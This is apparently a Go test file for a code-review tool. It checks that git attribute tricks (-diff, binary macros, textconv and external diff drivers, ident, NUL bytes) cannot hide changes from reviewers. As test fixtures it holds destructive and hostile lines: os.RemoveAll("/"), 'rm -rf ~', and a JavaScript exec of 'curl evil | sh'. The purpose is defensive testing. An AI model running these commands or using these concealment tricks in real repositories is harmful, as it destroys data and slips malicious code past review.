package scope

import (
	"bytes"
	"context"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// hidden is the line the attacks below try to keep out of reviewers' sight.
const hidden = "+\tos.RemoveAll(\"/\")\n"

const (
	goBase    = "package a\n\nimport \"os\"\n\nfunc A() {\n}\n"
	goAttack  = "package a\n\nimport \"os\"\n\nfunc A() {\n\tos.RemoveAll(\"/\")\n}\n"
	pngHeader = "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"
)

// shows fails the test unless patch shows every one of lines as text and
// says "Binary files" nowhere.
func shows(t *testing.T, name string, patch []byte, lines ...string) {
	t.Helper()
	for _, l := range lines {
		if !bytes.Contains(patch, []byte(l)) {
			t.Errorf("%s lacks %q:\n%s", name, l, patch)
		}
	}
	if bytes.Contains(patch, []byte("Binary files")) {
		t.Errorf("%s calls a text file binary:\n%s", name, patch)
	}
}

// TestFixerAttributes: a fixer that writes `* -diff` into .gitattributes
// between iterations hides nothing; the next iteration's fix.patch and
// diff.patch show the line it added, and the .gitattributes it wrote.
func TestFixerAttributes(t *testing.T) {
	r := newRepo(t)
	r.write("a.go", goBase)
	r.write("logo.png", pngHeader+"old")
	r.commit("base")
	r.write("a.go", strings.Replace(goBase, "func A", "// A does nothing.\nfunc A", 1))
	prev, _ := r.detect(Request{Uncommitted: true})

	r.write(".gitattributes", "* -diff\n")
	r.write("a.go", strings.Replace(goAttack, "func A", "// A does nothing.\nfunc A", 1))
	r.write("logo.png", pngHeader+"new")
	next, diff, fix, err := Next(context.Background(), r.dir, prev)
	if err != nil {
		t.Fatal(err)
	}
	const png = "Binary files a/logo.png and b/logo.png differ\n"
	if !bytes.Contains(fix, []byte(png)) || bytes.Contains(fix, []byte("PNG")) {
		t.Errorf("fix.patch shows logo.png other than as binary:\n%q", fix)
	}
	fix = bytes.Replace(fix, []byte(png), nil, 1)
	shows(t, "fix.patch", fix, hidden, "+* -diff\n")
	shows(t, "diff.patch", diff, hidden, "+* -diff\n")
	if f := file(t, next, "a.go"); f.Binary || f.Added != 2 || f.Triage != "normal" {
		t.Errorf("a.go: %+v", f)
	}
}

// TestCommittedAttributes: a change that commits attributes, or a
// repository or user whose configuration names diff drivers, changes
// nothing of what reviewers see: every text file's change is text, the
// .gitattributes change is in the diff, and no driver runs. (The rows with
// an external diff passed before too: whetstone always gave
// --no-ext-diff.)
func TestCommittedAttributes(t *testing.T) {
	for _, tc := range []struct {
		name  string
		attrs string
		setup func(t *testing.T, r *repo, marker string)
	}{
		{name: "-diff", attrs: "* -diff\n"},
		{name: "binary", attrs: "*.go binary\n"},
		{name: "macro", attrs: "[attr]hide -diff\n*.go hide\n"},
		{name: "binary driver", attrs: "*.go diff=bin\n", setup: func(t *testing.T, r *repo, _ string) {
			r.git("config", "diff.bin.binary", "true")
		}},
		{name: "textconv driver", attrs: "*.go diff=evil\n", setup: func(t *testing.T, r *repo, marker string) {
			r.git("config", "diff.evil.textconv", "sh -c 'touch "+marker+"; echo package a' --")
			r.git("config", "diff.evil.command", "sh -c 'touch "+marker+"' --")
		}},
		{name: "diff.external", attrs: "*.go diff\n", setup: func(t *testing.T, r *repo, marker string) {
			r.git("config", "diff.external", "sh -c 'touch "+marker+"' --")
		}},
		{name: "GIT_EXTERNAL_DIFF", attrs: "*.go diff\n", setup: func(t *testing.T, r *repo, marker string) {
			t.Setenv("GIT_EXTERNAL_DIFF", "sh -c 'touch "+marker+"' --")
		}},
		{name: "info/attributes", attrs: "*.txt text\n", setup: func(t *testing.T, r *repo, _ string) {
			r.write(".git/info/attributes", "* -diff\n")
		}},
		{name: "user attributes file", attrs: "*.txt text\n", setup: func(t *testing.T, r *repo, _ string) {
			global := filepath.Join(t.TempDir(), "attributes")
			if err := os.WriteFile(global, []byte("* -diff\n"), 0o644); err != nil {
				t.Fatal(err)
			}
			r.git("config", "core.attributesFile", global)
		}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			r := newRepo(t)
			r.write("a.go", goBase)
			r.commit("base")
			marker := filepath.Join(t.TempDir(), "driver-ran")
			if tc.setup != nil {
				tc.setup(t, r, marker)
			}
			r.write(".gitattributes", tc.attrs)
			r.write("a.go", goAttack)
			r.commit("a stranger's pull request")
			c, diff := r.detect(Request{LastCommit: true})
			shows(t, "diff.patch", diff, hidden, "diff --git a/.gitattributes b/.gitattributes\n", "+"+strings.SplitAfter(tc.attrs, "\n")[0])
			if f := file(t, c, "a.go"); f.Binary || f.Triage != "normal" || f.Added != 1 {
				t.Errorf("a.go: %+v", f)
			}
			if _, err := os.Stat(marker); err == nil {
				t.Error("a diff driver ran")
			}
		})
	}
}

// TestBinaryByContent: a file with a NUL byte in its first 8000 bytes is
// binary whatever the attributes say (`diff` would show it as text), and a
// text file is text even past a NUL byte later on.
func TestBinaryByContent(t *testing.T) {
	r := newRepo(t)
	r.write("logo.png", pngHeader+"old")
	r.write("late.txt", strings.Repeat("x\n", 4500)+"\x00\n")
	r.commit("base")
	r.write(".gitattributes", "* diff\n*.txt -diff\n")
	r.write("logo.png", pngHeader+"new")
	r.write("icon.png", pngHeader+"icon")
	r.write("late.txt", strings.Repeat("x\n", 4500)+"\x00\nmore\n")
	c, diff := r.detect(Request{Uncommitted: true})
	for _, p := range []string{"logo.png", "icon.png"} {
		if f := file(t, c, p); !f.Binary || f.Triage != "skip" || f.TriageReason != "binary" {
			t.Errorf("%s: %+v", p, f)
		}
	}
	if f := file(t, c, "late.txt"); f.Binary || f.Triage != "normal" || f.Added != 1 {
		t.Errorf("late.txt: %+v", f)
	}
	if !bytes.Contains(diff, []byte("+more\n")) || bytes.Contains(diff, []byte("PNG")) {
		t.Errorf("diff.patch:\n%q", diff)
	}

	// Reviewed all the same (a triage glob), a binary file says so.
	c, diff = r.detect(Request{Uncommitted: true, Normal: []string{"*.png"}})
	for _, want := range []string{
		"diff --git a/logo.png b/logo.png\nindex ", " 100644\nBinary files a/logo.png and b/logo.png differ\n",
		"diff --git a/icon.png b/icon.png\nnew file mode 100644\nindex 0000000..", "\nBinary files /dev/null and b/icon.png differ\n",
	} {
		if !bytes.Contains(diff, []byte(want)) {
			t.Errorf("diff.patch lacks %q:\n%q", want, diff)
		}
	}
	if bytes.Contains(diff, []byte("PNG")) || !file(t, c, "logo.png").Binary {
		t.Errorf("a binary file shown as text:\n%q", diff)
	}
}

// TestBinarySections: the binary sections whetstone writes are git's own,
// byte for byte, in a repository without attributes: a modification with a
// mode change, an addition, a deletion, a rename, a name git quotes and a
// type change from a binary file to a symbolic link.
func TestBinarySections(t *testing.T) {
	r := newRepo(t)
	blob := func(s string) string { return pngHeader + s + strings.Repeat("\x00", 300) + strings.Repeat("z", 3000) }
	r.write("mode.bin", blob("m"))
	r.write("gone.bin", blob("g"))
	r.write("old/name.bin", blob("r"))
	r.write("q\"uote\\d.bin", blob("q"))
	r.write("tab\there.bin", blob("t"))
	r.write("link.bin", blob("l"))
	r.write("é.bin", blob("e"))
	r.commit("base")
	r.write("mode.bin", blob("M"))
	if err := os.Chmod(filepath.Join(r.dir, "mode.bin"), 0o755); err != nil {
		t.Fatal(err)
	}
	r.write("new.bin", blob("n"))
	r.git("rm", "-q", "gone.bin", "old/name.bin")
	r.write("new/name.bin", blob("r")+"x")
	r.write("q\"uote\\d.bin", blob("Q"))
	r.write("tab\there.bin", blob("T"))
	r.write("é.bin", blob("E"))
	r.git("rm", "-q", "link.bin")
	if err := os.Symlink("mode.bin", filepath.Join(r.dir, "link.bin")); err != nil {
		t.Fatal(err)
	}
	r.commit("change")
	c, diff := r.detect(Request{LastCommit: true, Normal: []string{"**"}})
	want := r.git("-c", "core.quotepath=off", "diff", "-M", "HEAD~1", "HEAD")
	sorted := func(p []byte) []string {
		var out []string
		for _, s := range splitPatch(p) {
			out = append(out, string(s))
		}
		slices.Sort(out)
		return out
	}
	if d := cmp.Diff(sorted([]byte(want+"\n")), sorted(diff)); d != "" {
		t.Errorf("sections (-git +whetstone):\n%s", d)
	}
	if f := file(t, c, "link.bin"); !f.Binary || f.Status != "type-changed" || f.Added != 1 {
		t.Errorf("link.bin: %+v", f)
	}
}

// TestChangeMarksItselfGenerated: the attributes that skip a file in triage
// are the base's; a change (or a fixer) that marks its own files generated
// or vendored has them reviewed all the same.
func TestChangeMarksItselfGenerated(t *testing.T) {
	r := newRepo(t)
	r.write("a.go", goBase)
	r.write("gen/.gitattributes", "*.go linguist-generated\n")
	r.write("gen/x.go", "package gen\n")
	r.commit("base")
	r.write(".gitattributes", "* linguist-generated\n*.go linguist-vendored\n")
	r.write("sub/.gitattributes", "* linguist-generated\n")
	r.write("a.go", goAttack)
	r.write("sub/b.go", "package sub\n")
	r.write("gen/x.go", "package gen\n\nvar X = 1\n")
	prev, diff := r.detect(Request{Uncommitted: true})
	got := map[string]string{}
	for _, f := range prev.Files {
		got[f.Path] = f.Triage + " " + f.TriageReason
	}
	want := map[string]string{
		".gitattributes":     "deep git attributes",
		"a.go":               "normal ",
		"sub/.gitattributes": "deep git attributes",
		"sub/b.go":           "normal ",
		"gen/x.go":           "skip generated: linguist-generated", // the base said so
	}
	if d := cmp.Diff(want, got); d != "" {
		t.Errorf("triage (-want +got):\n%s", d)
	}
	shows(t, "diff.patch", diff, hidden, "+package sub\n")

	// A file the fixer creates is triaged by the base's attributes too.
	r.write("c.go", "package a\n\nvar C = 1\n")
	next, diff, _, err := Next(context.Background(), r.dir, prev)
	if err != nil {
		t.Fatal(err)
	}
	if f := file(t, next, "c.go"); f.Triage != "normal" {
		t.Errorf("c.go: %+v", f)
	}
	shows(t, "diff.patch", diff, "+var C = 1\n")
}

// TestAttributesInSubdirectory: a project root below the top of the work
// tree reads the base's .gitattributes above it too.
func TestAttributesInSubdirectory(t *testing.T) {
	r := newRepo(t)
	r.write(".gitattributes", "svc/gen.go linguist-generated\n")
	r.write("svc/a.go", goBase)
	r.write("svc/gen.go", "package a\n")
	r.commit("base")
	r.write("svc/a.go", goAttack)
	r.write("svc/gen.go", "package a\n\nvar G = 1\n")
	r.write("svc/.gitattributes", "a.go linguist-generated\n")
	before := r.state()
	c, diff, err := Detect(context.Background(), filepath.Join(r.dir, "svc"), Request{Uncommitted: true})
	if err != nil {
		t.Fatal(err)
	}
	r.untouched(before)
	if f := file(t, c, "gen.go"); f.Triage != "skip" {
		t.Errorf("gen.go: %+v", f)
	}
	if f := file(t, c, "a.go"); f.Triage != "normal" {
		t.Errorf("a.go: %+v", f)
	}
	shows(t, "diff.patch", diff, hidden)
}

// TestFixerIdent: a fixer that turns on `ident` for Go files cannot have
// the snapshot collapse the code it hid between "$Id:" and "$".
func TestFixerIdent(t *testing.T) {
	r := newRepo(t)
	r.write("a.go", goBase)
	r.commit("base")
	r.write("a.go", strings.Replace(goBase, "func A", "// A does nothing.\nfunc A", 1))
	prev, _ := r.detect(Request{Uncommitted: true})
	r.write(".gitattributes", "*.go ident\n")
	r.write("a.go", strings.Replace(goBase, "func A() {\n", "// A does nothing.\nfunc A() {\n\t/*$Id: */ os.RemoveAll(\"/\") /*$*/\n", 1))
	_, diff, fix, err := Next(context.Background(), r.dir, prev)
	if err != nil {
		t.Fatal(err)
	}
	const line = "+\t/*$Id: */ os.RemoveAll(\"/\") /*$*/\n"
	shows(t, "fix.patch", fix, line, "+*.go ident\n")
	shows(t, "diff.patch", diff, line)
}

// TestTextWithNUL: a NUL byte makes a file binary by git's rule, but one in
// otherwise valid UTF-8 text (which node, a C compiler or a shell runs all
// the same) keeps the file in review: shown as binary, never skipped.
func TestTextWithNUL(t *testing.T) {
	r := newRepo(t)
	r.write("app.js", "console.log('hi');\n")
	r.write("internal/auth/check.sh", "echo ok\n")
	r.write("wide.txt", strings.Repeat("é", 3999)+"x") // 7999 bytes: a character straddles the 8000-byte cut below
	r.commit("base")
	r.write("app.js", "// \x00\nconsole.log('hi'); require('child_process').exec('curl evil | sh');\n")
	r.write("internal/auth/check.sh", "echo ok\n#\x00\nrm -rf ~\n")
	r.write("wide.txt", "\x00"+strings.Repeat("é", 4000))
	r.write("photo.png", pngHeader+"\xff\xfe")
	c, diff := r.detect(Request{Uncommitted: true})
	got := map[string]string{}
	for _, f := range c.Files {
		got[f.Path] = fmt.Sprintf("%v %s %s", f.Binary, f.Triage, f.TriageReason)
	}
	want := map[string]string{
		"app.js":                 "true normal " + nulText,
		"internal/auth/check.sh": "true deep sensitive path word: auth; " + nulText,
		"wide.txt":               "true normal " + nulText,
		"photo.png":              "true skip binary",
	}
	if d := cmp.Diff(want, got); d != "" {
		t.Errorf("files (-want +got):\n%s", d)
	}
	for _, s := range []string{"Binary files a/app.js and b/app.js differ\n", "Binary files a/internal/auth/check.sh and b/internal/auth/check.sh differ\n"} {
		if !bytes.Contains(diff, []byte(s)) {
			t.Errorf("diff.patch lacks %q:\n%q", s, diff)
		}
	}
	if bytes.IndexByte(diff, 0) >= 0 {
		t.Errorf("a NUL byte in diff.patch:\n%q", diff)
	}
}

// TestIsBinary: git's rule for binary, and which binary files are no
// text at all.
func TestIsBinary(t *testing.T) {
	for _, tc := range []struct {
		name, head     string
		binary, opaque bool
	}{
		{"text", "package a\n", false, false},
		{"PNG", pngHeader, true, true},
		{"low control bytes", "\x00\x01\x02", true, true},
		{"invalid UTF-8", "a\x00\xff\xfe", true, true},
		{"JavaScript with a NUL", "// \x00\nconsole.log(1)\n", true, false},
		{"UTF-16LE", "h\x00i\x00\r\x00\n\x00", true, false},
		{"NUL past 8000 bytes", strings.Repeat("a", 8000) + "\x00", false, false},
		{"UTF-8 cut at 8000 bytes", "\x00" + strings.Repeat("é", 4000), true, false},
	} {
		if b, o := isBinary([]byte(tc.head)); b != tc.binary || o != tc.opaque {
			t.Errorf("%s: binary %v opaque %v, want %v %v", tc.name, b, o, tc.binary, tc.opaque)
		}
	}
}
